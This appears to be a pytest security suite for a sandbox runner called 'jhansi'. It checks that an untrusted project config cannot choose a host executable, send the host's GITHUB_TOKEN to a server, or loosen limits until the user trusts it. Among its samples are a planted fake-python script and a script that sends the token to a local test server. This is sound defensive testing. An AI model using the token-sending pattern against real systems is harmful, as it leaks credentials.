"""A project's configuration cannot run code on the host or widen access until trusted.

Every attack goes through a real ``jhansi run`` (a subprocess, bubblewrap): a
``jhansi.toml`` or ``[tool.jhansi]`` that picks a host interpreter or bwrap
binary, or binds the host's ``GITHUB_TOKEN`` to a server of its choosing. Each
must end in exit 2 with the ``jhansi trust`` hint before anything runs: no
marker written by the planted program, nothing received by the server. The
controls show the same file is obeyed once trusted (so the refusals are not an
accident of the set-up), and refused again after a one-byte edit. Tightening
values need no trust and apply; a loosening one is refused.

The refusal happens while the settings load, before a backend is chosen, so
only the runs that get past it start a sandbox (bubblewrap, three in all).
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from tests.conftest import run_jhansi
from tests.tls_server import TLSServer

TOKEN = "ghp_" + "T0k3nN0tF0rY0u" * 3


def _evil(path: Path, marker: Path) -> Path:
    """A program that, if run on the host, leaves ``marker`` and then acts like a python."""
    path.write_text(f'#!/bin/sh\necho ran "$@" >> {marker}\nexec python3 "$@"\n')
    path.chmod(0o755)
    return path


@pytest.fixture
def attack(tmp_path: Path) -> tuple[Path, Path, Path]:
    """A project dir with a hello script, a planted program beside it, and its marker."""
    project = tmp_path / "project"
    (project / "sub").mkdir(parents=True)
    (project / "hello.py").write_text("print('hello')\n")
    (project / "sub" / "hello.py").write_text("print('hello')\n")
    marker = tmp_path / "marker"
    _evil(project / "fakepy", marker)
    return project, project / "fakepy", marker


def _assert_refused(proc: subprocess.CompletedProcess[str], marker: Path, *keys: str) -> None:
    assert proc.returncode == 2, (proc.returncode, proc.stdout, proc.stderr)
    assert "jhansi trust /" in proc.stderr, proc.stderr
    assert "Traceback" not in proc.stderr
    for key in keys:
        assert key in proc.stderr, proc.stderr
    assert not marker.exists(), marker.read_text()


@pytest.mark.bwrap
@pytest.mark.parametrize(
    ("file", "body", "keys"),
    [
        ("jhansi.toml", '[sandbox]\npython = "fakepy"\n', ("sandbox.python",)),
        ("jhansi.toml", '[sandbox]\npython = "{evil}"\n', ("sandbox.python",)),
        ("jhansi.toml", '[sandbox]\nbwrap = "{evil}"\n', ("sandbox.bwrap",)),
        # a harmless-looking tightening beside it does not carry the widening through
        (
            "jhansi.toml",
            '[sandbox]\nmemory = "256m"\nbwrap = "{evil}"\npython = "{evil}"\n',
            ("sandbox.bwrap", "sandbox.python"),
        ),
        ("pyproject.toml", '[tool.jhansi.sandbox]\npython = "{evil}"\n', ("sandbox.python",)),
        ("pyproject.toml", '[tool.jhansi.sandbox]\nbwrap = "{evil}"\n', ("sandbox.bwrap",)),
    ],
    ids=["bare-name", "abs-python", "abs-bwrap", "mixed", "pyproject-python", "pyproject-bwrap"],
)
def test_a_project_file_cannot_choose_a_host_executable(
    attack: tuple[Path, Path, Path], file: str, body: str, keys: tuple[str, ...]
) -> None:
    project, evil, marker = attack
    (project / file).write_text(body.format(evil=evil))
    env = {"JHANSI_SANDBOX_BACKEND": "bwrap"}
    # from the project itself, and from a subdirectory (the file is found upwards)
    for script in (project / "hello.py", project / "sub" / "hello.py"):
        _assert_refused(run_jhansi("run", str(script), env=env), marker, *keys)
    # every command that loads settings refuses the same way, not only run
    for command in (("check",), ("deps",), ("lock",), ("sbom",)):
        proc = run_jhansi(*command, str(project / "hello.py"), env=env)
        _assert_refused(proc, marker, *keys)
    # `config show` still works and says what it left out
    shown = run_jhansi("config", "show", "--json", "--project", str(project), env=env)
    assert shown.returncode == 0, shown.stderr
    refused = {r["key"] for r in json.loads(shown.stdout)["refused"]}
    assert refused == set(keys)
    assert not marker.exists()


@pytest.mark.bwrap
def test_a_relative_executable_path_in_a_file_is_an_error(
    attack: tuple[Path, Path, Path],
) -> None:
    project, _, marker = attack
    (project / "jhansi.toml").write_text('[sandbox]\npython = "./fakepy"\n')
    proc = run_jhansi("run", str(project / "hello.py"), env={"JHANSI_SANDBOX_BACKEND": "bwrap"})
    assert proc.returncode == 2, proc.stderr
    assert "relative path" in proc.stderr
    assert "never resolved relative to jhansi.toml" in proc.stderr
    assert not marker.exists()


@pytest.mark.bwrap
def test_trust_obeys_that_content_and_a_one_byte_edit_revokes_it(
    bwrap_path: Path, attack: tuple[Path, Path, Path], tmp_path: Path
) -> None:
    """The positive control of the executable attacks: trusted, the file's interpreter
    is the one that runs (the planted program leaves its marker); edited, refused again."""
    project, evil, marker = attack
    config = project / "jhansi.toml"
    config.write_text(f'[sandbox]\npython = "{evil}"\n')
    env = {"JHANSI_SANDBOX_BACKEND": "bwrap"}
    trusted = run_jhansi("trust", str(config))
    assert trusted.returncode == 0, trusted.stderr
    assert str(config) in trusted.stdout
    assert "sandbox.python" in trusted.stdout
    ran = run_jhansi("run", "--json", str(project / "hello.py"), env=env)
    assert ran.returncode == 0, ran.stderr
    assert marker.exists()  # trusted: the file's choice was obeyed
    marker.unlink()

    config.write_text(config.read_text() + " ")  # one byte
    proc = run_jhansi("run", str(project / "hello.py"), env=env)
    _assert_refused(proc, marker, "sandbox.python")
    assert "changed since it was trusted" in proc.stderr

    listed = json.loads(run_jhansi("trust", "--list", "--json").stdout)["trusted"]
    assert [e["path"] for e in listed] == [os.path.realpath(config)]
    assert run_jhansi("trust", "--revoke", str(config)).returncode == 0
    assert json.loads(run_jhansi("trust", "--list", "--json").stdout)["trusted"] == []


SENDER = """\
import os, ssl, sys, urllib.request
context = ssl.create_default_context(cafile=os.environ.get("SSL_CERT_FILE"))
request = urllib.request.Request(
    "https://localhost:{port}/echo",
    headers={{"Authorization": "Bearer " + os.environ.get("GITHUB_TOKEN", "none")}},
)
try:
    with urllib.request.urlopen(request, timeout=20, context=context) as response:
        print("status", response.status)
except Exception as exc:
    print("failed", exc)
"""


@pytest.mark.bwrap
def test_a_project_file_cannot_send_the_hosts_token_anywhere(
    bwrap_path: Path, tmp_path: Path
) -> None:
    with TLSServer(tmp_path / "server") as server:
        project = tmp_path / "project"
        project.mkdir()
        (project / "send.py").write_text(SENDER.format(port=server.port))
        config = project / "jhansi.toml"
        config.write_text(
            f'[secrets.GITHUB_TOKEN]\nhosts = ["localhost:{server.port}"]\n'
            f'[network]\nallow_private = ["127.0.0.0/8", "::1/128"]\n'
            f'upstream_ca = "{server.ca_path}"\n'
        )
        env = {
            "JHANSI_SANDBOX_BACKEND": "bwrap",
            "GITHUB_TOKEN": TOKEN,
            "PYTHON_KEYRING_BACKEND": "keyring.backends.fail.Keyring",
        }
        proc = run_jhansi("run", str(project / "send.py"), env=env)
        assert proc.returncode == 2, (proc.stdout, proc.stderr)
        assert "secrets.GITHUB_TOKEN" in proc.stderr
        assert "network.allow_private" in proc.stderr
        assert "network.upstream_ca" in proc.stderr
        assert "jhansi trust " + os.path.realpath(config) in proc.stderr
        assert server.seen == []
        assert TOKEN not in proc.stdout + proc.stderr

        # The control: the user trusts it, and the token reaches the bound host.
        assert run_jhansi("trust", str(config)).returncode == 0
        ran = run_jhansi("run", "--json", str(project / "send.py"), env=env)
        assert ran.returncode == 0, ran.stderr
        assert "status 200" in json.loads(ran.stdout)["stdout"]["text"], ran.stdout
        assert [dict(r["headers"]).get("Authorization") for r in server.seen] == [f"Bearer {TOKEN}"]
        ledger = run_jhansi("ledger", "verify", "--json")
        assert ledger.returncode == 0, ledger.stdout


@pytest.mark.bwrap
def test_tightening_needs_no_trust_and_loosening_is_refused(
    bwrap_path: Path, tmp_path: Path
) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / "notes.txt").write_text("not for the sandbox\n")
    (project / "slow.py").write_text(
        "import os, time\n"
        "print('notes', os.path.exists('notes.txt') and open('notes.txt').read().strip(),"
        " flush=True)\n"
        "time.sleep(60)\n"
    )
    config = project / "jhansi.toml"
    config.write_text(
        '[sandbox]\ntimeout = "3s"\nmemory = "256m"\nmask = ["notes.txt"]\n'
        '[policy]\nunpopular_packages = "deny"\nmin_package_age_days = 60\n'
    )
    ledger = tmp_path / "ledger"
    env = {"JHANSI_SANDBOX_BACKEND": "bwrap", "JHANSI_LEDGER": str(ledger)}
    ran = run_jhansi("run", "--json", str(project / "slow.py"), env=env)
    assert ran.returncode == 124, (ran.stdout, ran.stderr)  # the file's 3 s applied
    result = json.loads(ran.stdout)
    assert "notes" in result["stdout"]["text"], result
    assert "not for the sandbox" not in result["stdout"]["text"]  # its mask applied
    shown = json.loads(run_jhansi("config", "show", "--json", "--project", str(project)).stdout)
    assert shown["refused"] == []
    assert shown["settings"]["sandbox"]["memory"] == 256 << 20
    assert shown["settings"]["policy"]["unpopular_packages"] == "deny"

    # the ledger says which file applied, its hash, and that it needed no trust
    records = [json.loads(line) for line in (ledger / "ledger.jsonl").read_text().splitlines()]
    start = next(r["body"] for r in records if r["kind"] == "exec.start")
    (entry,) = start["config"]
    assert entry["path"] == str(config)
    assert entry["layer"] == "project"
    assert entry["trusted"] is None
    assert entry["needed_trust"] == []

    config.write_text('[sandbox]\ntimeout = "900s"\n')
    proc = run_jhansi("run", str(project / "slow.py"), env=env)
    assert proc.returncode == 2, proc.stderr
    assert "sandbox.timeout" in proc.stderr
    assert "jhansi trust" in proc.stderr
    # the refusal itself is recorded in the user's ledger, with the file that caused it
    records = [json.loads(line) for line in (ledger / "ledger.jsonl").read_text().splitlines()]
    denied = [r["body"] for r in records if r["kind"] == "exec.denied"]
    assert len(denied) == 1
    assert denied[0]["reason"]["kind"] == "UntrustedConfigError"
    assert denied[0]["reason"]["exit_code"] == 2
    (entry,) = denied[0]["config"]
    assert entry["path"] == str(config)
    assert entry["trusted"] is False
    assert entry["needed_trust"] == ["sandbox.timeout"]
    assert run_jhansi("ledger", "verify", "--ledger", str(ledger)).returncode == 0
